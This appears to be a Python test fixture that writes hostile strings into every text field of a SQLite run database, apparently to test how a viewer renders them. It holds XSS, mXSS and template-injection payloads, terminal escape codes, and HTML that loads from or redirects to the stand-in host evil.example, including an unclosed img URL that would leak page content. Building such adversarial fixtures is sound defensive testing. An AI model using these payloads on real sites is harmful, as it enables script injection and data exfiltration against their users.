"""Hostile texts wherever a database has a text."""

import json
import sqlite3
from contextlib import closing
from pathlib import Path

HOSTILE = (
    '<script>alert(1)</script><img src=x onerror=alert(2)>" onmouseover="alert(3)\''
    " javascript:alert(4) </pre></main>{{ 7 * 7 }} \u202etxt \x00 \x1b[2J"
)
ATTACKS = "".join(
    (
        HOSTILE,
        '<a class="attacked" href="javascript:alert(5)">',
        '<svg class="attacked"><style><img src=x onerror=alert(6)></style></svg>',
        '<math><mtext><table><mglyph><style><!--</style><img class="attacked" title="--&gt;&lt;',
        'img src=x onerror=alert(7)&gt;"></math></title></textarea></noscript></template><![CDATA[',
        '<meta class="attacked" http-equiv="refresh" content="0;url=http://evil.example/">',
        '<link class="attacked" rel="stylesheet" href="http://evil.example/x.css">',
        '<style class="attacked">@import "http://evil.example/"; * { display: none }</style>',
        '<div class="attacked" hx-get="http://evil.example/" hx-trigger="load" hx-on:load="x()">',
        "<base href='http://evil.example/'><iframe class=attacked srcdoc='<script>alert(8)'>",
        "<img class=attacked src='http://evil.example/?",
    )
)
"""Text that would act in each of the ways that are known, if it were read as anything else."""


def fill(path: Path, text: str = HOSTILE) -> None:
    """Put a text wherever the runs of a database have one that others wrote."""
    system = "WHERE sha256 IN (SELECT system_sha FROM rollouts)"
    of_toy = "WHERE branch_id = (SELECT head_branch FROM runs WHERE run_id = 'toy')"
    message = json.dumps(
        {
            "role": text,
            "content": text,
            "reasoning_content": text,
            "tool_calls": [{"function": {"name": text, "arguments": text}}],
        }
    )
    changes: list[tuple[str, tuple[object, ...]]] = [
        ("UPDATE samples SET question = ? || question, answer = '[1]'", (text,)),
        ("UPDATE rollouts SET head = ?, error = ?, outcome = 'error'", (text, text)),
        ("UPDATE rollout_bodies SET response = ?", (text,)),
        ("UPDATE verdicts SET critique = ?, extracted = ?", (text, text)),
        (f"UPDATE texts SET body = ? {system}", (text,)),
        ("UPDATE lessons SET text = ?", (text,)),
        ("UPDATE operations SET text = ?, reason = ?", (text, text)),
        ("UPDATE experience_texts SET text = ?", (text,)),
        (f"UPDATE groups SET reason = ?, status = 'failed' {of_toy}", (text,)),
        ("UPDATE invocations SET command = ?", (text,)),
        ("UPDATE datasets SET name = ? || dataset_id", (text,)),
        (
            "UPDATE call_bodies SET request = ?, reply = ?, codec = 0",
            (f"[{message}]".encode(), message.replace('"role": ', '"was": ').encode()),
        ),
    ]
    with closing(sqlite3.connect(path)) as db, db:
        for sql, values in changes:
            assert db.execute(sql, values).rowcount, sql
